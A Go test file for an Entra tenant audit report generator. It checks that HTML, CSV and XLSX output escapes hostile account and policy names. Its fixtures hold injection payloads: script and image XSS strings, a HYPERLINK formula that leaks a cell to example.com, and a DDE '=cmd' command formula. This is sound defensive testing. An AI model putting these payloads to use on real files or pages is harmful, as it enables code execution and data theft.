package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"vakt/internal/check"
	"vakt/internal/directory"
	"vakt/internal/report"
	"vakt/internal/rule"
)

// hostile are names that break careless output. Each is legal in a directory.
var hostile = []string{
	`<script>alert('hej')</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://example.com/?x="&A1,"Klicka")`,
	" \t=1+1",
	"+46 70",
	"-2+3",
	"@SUM(A1)",
	"Sören \u202egnp.exe",
	"Röd \x1b[31mText",
	"tab\tand\r\nline",
	"\x00nul",
}

var (
	made   = time.Date(2026, 3, 4, 12, 0, 0, 0, time.UTC)
	taken  = made.Add(-time.Hour)
	twelve = 12
)

// tenant is a report over a tenant with one account for each hostile name.
func tenant(holes ...directory.Missing) *report.Report {
	s := &directory.Snapshot{Tenant: "11111111-2222-3333-4444-555555555555", Taken: taken, Complete: len(holes) == 0, Missing: holes,
		Organization: directory.Known(directory.Organization{Name: hostile[0]}),
		Parts:        []directory.PartState{{Name: "users.json", State: directory.StateComplete, Count: len(hostile)}}}
	r := &check.Result{Tenant: s.Tenant, Taken: taken, Complete: s.Complete, CouldNotLook: holes}
	ids := []string{}
	for i, name := range hostile {
		id := string(rune('a' + i))
		ids = append(ids, id)
		s.Accounts = append(s.Accounts, directory.Account{ID: id, UPN: name + "@contoso.com", Name: name, Kind: directory.Known(directory.KindShared),
			Enabled: directory.Known(true), Created: directory.Known(made.AddDate(-i, 0, 0)), PasswordChanged: directory.Unknown[time.Time]("not asked for")})
		subject := check.Subject{Kind: "account", ID: id, Name: name}
		r.Verdicts = append(r.Verdicts, check.AccountVerdict{Account: subject, UPN: name, Kind: "shared", Verdict: check.Block, Level: rule.Medium,
			Reasons: []check.Reason{{ID: "never_used", Text: name}}, Ask: []string{name}, Step: name, Refused: &twelve})
		r.Findings = append(r.Findings, check.Finding{ID: id, Check: "resource-signin-enabled", Title: "Sign-in enabled", Severity: rule.High,
			Status: check.Found, Subject: subject, Reasons: []check.Reason{{ID: "x", Text: name}}, Ask: []string{"no owner"}, Next: []string{name}})
	}
	r.Coverage = []check.Coverage{{Population: "enabled_members", Words: "All", Capable: 5, Total: 11, Unknown: 5, NotIDs: ids[:1], UnknownIDs: ids[6:], CapableIDs: ids[1:6]},
		{Population: "after_block"}}
	r.Tallies = []check.Tally{{Check: "resource-signin-enabled", Title: "Sign-in enabled", Severity: rule.High, Findings: len(hostile)}}
	r.Exceptions = []check.ExceptionState{{Exception: check.Exception{Account: hostile[2], Owner: hostile[0], Reason: hostile[3], Until: made}, State: check.Expired, Days: -1}}
	return &report.Report{Result: r, Snapshot: s, Made: made, Version: "test", Rows: covered(), Effect: effect()}
}

func html(t *testing.T, r *report.Report, lang string) string {
	t.Helper()
	var b bytes.Buffer
	if err := r.HTML(&b, lang); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestHTMLEscapesNames(t *testing.T) {
	page := html(t, tenant(), "en")
	for _, bad := range []string{"<script>alert", "<img", "\u202e", "\x1b", "\x00"} {
		if strings.Contains(page, bad) {
			t.Errorf("the page has %q as it was", bad)
		}
	}
	if !strings.Contains(page, `&lt;script&gt;alert`) || !strings.Contains(page, `\u202e`) {
		t.Error("a name is missing from the page")
	}
}

// An HTML file that is mailed to a boss must not tell anybody that it is read.
func TestHTMLAsksTheNetworkForNothing(t *testing.T) {
	page := html(t, tenant(), "en")
	if m := regexp.MustCompile(`(?i)(?:src|href|action|url\()\s*=?\s*["'(]?\s*(?:https?:|//)[^"'> ]*`).FindString(page); m != "" {
		t.Errorf("the page points to %q", m)
	}
	if !strings.Contains(page, `content="default-src &#39;none&#39;`) && !strings.Contains(page, `content="default-src 'none'`) {
		t.Error("the page has no content security policy")
	}
}

// Without its script the page shows everything that it holds: what is hidden
// are the controls that the script brings to life.
func TestHTMLWorksWithoutScript(t *testing.T) {
	page := html(t, tenant(), "en")
	for _, m := range regexp.MustCompile(`<[a-z]+[^>]*\shidden[^>]*>`).FindAllString(page, -1) {
		if m != `<form class="filters" hidden>` && m != `<button type="button" id="theme" hidden>` {
			t.Errorf("hidden without a script: %s", m)
		}
	}
	if strings.Count(page, "<details") == 0 || !strings.Contains(page, "@media print") {
		t.Error("the page has nothing to fold up, or no style for paper")
	}
}

// A large tenant makes a page that a browser can still open: what is to be
// done comes first, and the page says how much it leaves out.
func TestLargeTenantMakesASmallPage(t *testing.T) {
	r := tenant()
	for i := range 40000 {
		v := check.AccountVerdict{Account: check.Subject{Kind: "account", ID: strconv.Itoa(i), Name: "Blocked"}, UPN: "blocked@contoso.com", Kind: "shared", Verdict: check.Blocked}
		r.Result.Verdicts = append(r.Result.Verdicts, v)
		r.Result.Findings = append(r.Result.Findings, check.Finding{Check: "resource-signin-enabled", Status: check.Found, Subject: v.Account})
	}
	page := html(t, r, "en")
	if len(page) > 2<<20 {
		t.Errorf("the page is %d bytes", len(page))
	}
	more := len(hostile) + 40000 - 2500
	if !strings.Contains(page, fmt.Sprintf("%d more accounts are not in this table", more)) || !strings.Contains(page, "and 39511 more") {
		t.Error("the page does not say what it leaves out")
	}
	if strings.Count(page, `data-verdict="block"`) != len(hostile) {
		t.Error("an account to block is left out")
	}
}

func TestHoleComesFirst(t *testing.T) {
	page := html(t, tenant(directory.Missing{Part: "conditionalAccessPolicies.json", Why: "no permission Policy.Read.All"}), "en")
	hole, tiles := strings.Index(page, "no permission Policy.Read.All"), strings.Index(page, `class="tiles"`)
	if hole < 0 || tiles < 0 || hole > tiles {
		t.Errorf("the hole stands at %d, the numbers at %d", hole, tiles)
	}
	if strings.Contains(page, "Everything was read") {
		t.Error("the page says that everything was read")
	}
}

// A check that lacks something which no part of the tenant was asked for is
// told of at the head as well, before what was found.
func TestBlindChecksComeFirst(t *testing.T) {
	if page := html(t, tenant(), "en"); strings.Contains(page, `href="#blind"`) {
		t.Error("a page without a blind check tells of some")
	}
	r := tenant()
	r.Result.Findings = append(r.Result.Findings, check.Finding{ID: "z", Check: "inbox-rule-forwards-externally-posture", Title: "Inbox rule forwards",
		Status: check.CouldNotLook, Subject: r.Result.Findings[0].Subject, Reasons: []check.Reason{{ID: "unread", Text: "inbox rules were not asked for"}}})
	for lang, want := range map[string]string{"en": "One check could not look", "sv": "En kontroll kunde ändå inte"} {
		page := html(t, r, lang)
		at, tiles := strings.Index(page, want), strings.Index(page, `class="tiles"`)
		if at < 0 || at > tiles || !strings.Contains(page, `id="blind"`) {
			t.Errorf("%s: the blind check stands at %d, the numbers at %d", lang, at, tiles)
		}
	}
}

// On a phone the heads of the columns are not there: the cells that need one
// carry it themselves.
func TestHTMLFitsAPhone(t *testing.T) {
	page := html(t, tenant(), "sv")
	if !strings.Contains(page, "@media screen and (max-width: 40rem)") {
		t.Error("the page has no style for a phone")
	}
	for _, label := range []string{"Fråga", "Senaste lyckade inloggning"} {
		if strings.Count(page, `<td data-label="`+label+`">`) != len(hostile) {
			t.Errorf("not every account says %q", label)
		}
	}
}

func TestNothingFoundIsNotClean(t *testing.T) {
	r := tenant(directory.Missing{Part: "users.json", Why: "403"})
	r.Result.Findings = nil
	if page := html(t, r, "en"); !strings.Contains(page, "Nothing was found in what could be read") || strings.Contains(page, "Nothing was found.") {
		t.Error("a page with a hole says that nothing was found")
	}
}

func TestSwedish(t *testing.T) {
	page := html(t, tenant(), "sv")
	for _, want := range []string{`lang="sv"`, "Resurskonton", "45,5–90,9 %", "delad postlåda", "spärra", "ingen ägare är känd"} {
		if !strings.Contains(page, want) {
			t.Errorf("the Swedish page lacks %q", want)
		}
	}
	if err := tenant().HTML(&bytes.Buffer{}, "fi"); err == nil || !strings.Contains(err.Error(), "en, sv") {
		t.Errorf("an unknown language gives %v", err)
	}
}

// A population of which nothing is known has no percentage, not 0 or 100.
func TestNothingKnownHasNoNumber(t *testing.T) {
	if page := html(t, tenant(), "en"); !regexp.MustCompile(`After the proposed block <span class="percent">–</span>`).MatchString(page) {
		t.Error("a population of nobody has a percentage")
	}
}

func table(t *testing.T, id string) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := tenant().CSV(&b, "en", id); err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(b.String(), "\ufeff")
	if !ok {
		t.Error("no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestCSVHoldsNoFormula(t *testing.T) {
	for _, id := range report.Sheets() {
		rows := table(t, id)
		if len(rows) < 2 {
			t.Errorf("%s is empty", id)
		}
		for _, row := range rows {
			for _, c := range row {
				if s := strings.TrimLeft(c, " "); s != "" && strings.ContainsAny(s[:1], "=+-@\t\r") {
					t.Errorf("%s: cell %q would run as a formula", id, c)
				}
			}
		}
	}
}

func TestCSVListsEveryAccountBehindANumber(t *testing.T) {
	rows := table(t, "coverage")
	var ids []string
	for _, row := range rows[1:] {
		if id := row[len(row)-1]; len(id) == 1 && row[2] == "" {
			ids = append(ids, id)
		}
	}
	slices.Sort(ids)
	if got := strings.Join(ids, ""); got != "abcdefghijk" {
		t.Errorf("the coverage table lists the accounts %q", got)
	}
	if err := tenant().CSV(&bytes.Buffer{}, "en", "nothing"); err == nil || !strings.Contains(err.Error(), "verdicts") {
		t.Errorf("an unknown table gives %v", err)
	}
}

// covered is a row with two means, one of which is no better than blind, and a
// row that nothing covers.
func covered() []report.Row {
	rows := []report.Row{{Row: "G11", ID: "risk-leaked-credentials", Severity: "high", Log: "riskDetection", Licence: "P1", By: []report.Means{
		{Name: "risk-leaked-credentials", Kind: "rule", Data: "risk", Records: 7, Found: 1, State: report.RowLive},
		{Name: "another", Kind: "check", Data: "the tenant", State: report.RowNoLicence, Why: "no records of the log risk, which takes Entra ID P2"},
	}}, {Row: "G48", ID: "success-signins-up-vs-last-week", Severity: "low", Log: "signIn", Licence: "P1"}}
	for i := range rows {
		rows[i].Settle()
	}
	return rows
}

// effect is what two policies did, one of which somebody has named to hurt.
func effect() *report.Effect {
	return &report.Effect{SignIns: 12, Unknown: 3, Rows: []report.EffectRow{
		{Period: "2026-03-02", Policy: "a", Name: "=cmd|' /C calc'!A0", Result: "failure", Device: "unregistered", SignIns: 5, Accounts: 2},
		{Period: "2026-03-02", Policy: "b", Name: "<script>alert(1)</script>", Result: "reportOnlySuccess", Device: "compliant", SignIns: 7},
	}}
}

func TestRowsTellWhatIsLive(t *testing.T) {
	rows := table(t, "rows")
	want := [][]string{
		{"Row", "Id", "Severity", "State", "Covered by", "Kind", "Looks at", "Looked at", "Found", "Licence", "Why"},
		{"G11", "risk-leaked-credentials", "high", "live", "risk-leaked-credentials", "rule", "risk", "7", "1", "P1", ""},
		{"G11", "risk-leaked-credentials", "high", "no licence", "another", "check", "the tenant", "", "", "P1", "no records of the log risk, which takes Entra ID P2"},
		{"G48", "success-signins-up-vs-last-week", "low", "missing", "", "", "signIn", "", "", "P1", ""},
	}
	if d := cmp.Diff(want, rows); d != "" {
		t.Error(d)
	}
	if r := covered(); r[0].State != report.RowLive || r[0].Why != "another: no records of the log risk, which takes Entra ID P2" || r[1].State != report.RowMissing {
		t.Errorf("settled as %s (%s) and %s", r[0].State, r[0].Why, r[1].State)
	}
}

func TestEffectCountsAccountsWhereSomebodyIsStopped(t *testing.T) {
	rows := table(t, "ca_effect")
	if len(rows) != 3 || rows[1][6] != "2" || rows[2][6] != "" {
		t.Errorf("%q", rows)
	}
}

func TestXLSX(t *testing.T) {
	var b bytes.Buffer
	if err := tenant().XLSX(&b, "sv"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close() //nolint:errcheck // read only
	if got := f.GetSheetList(); !slices.Equal(got, []string{"Läst", "Bedömningar", "Fynd", "MFA", "Kontroller", "Undantag", "Vägledningens rader", "Villkorsstyrd åtkomst", "Ingår inte"}) {
		t.Errorf("sheets are %q", got)
	}
	for i := range hostile {
		at, err := excelize.CoordinatesToCellName(1, i+2)
		if err != nil {
			t.Fatal(err)
		}
		formula, err := f.GetCellFormula("Bedömningar", at)
		value, valueErr := f.GetCellValue("Bedömningar", at)
		if err != nil || valueErr != nil || formula != "" || value == "" {
			t.Errorf("%s is %q, formula %q (%v, %v)", at, value, formula, err, valueErr)
		}
	}
}

func TestJSON(t *testing.T) {
	var b bytes.Buffer
	if err := tenant(directory.Missing{Part: "users.json", Why: "403"}).JSON(&b); err != nil {
		t.Fatal(err)
	}
	var d map[string]any
	if err := json.Unmarshal(b.Bytes(), &d); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"tenant", "complete", "could_not_look", "findings", "verdicts", "coverage", "checks", "exceptions", "parts", "made"} {
		if _, ok := d[key]; !ok {
			t.Errorf("the document lacks %q", key)
		}
	}
	for key := range d {
		if key != strings.ToLower(key) {
			t.Errorf("%q is not snake_case", key)
		}
	}
}
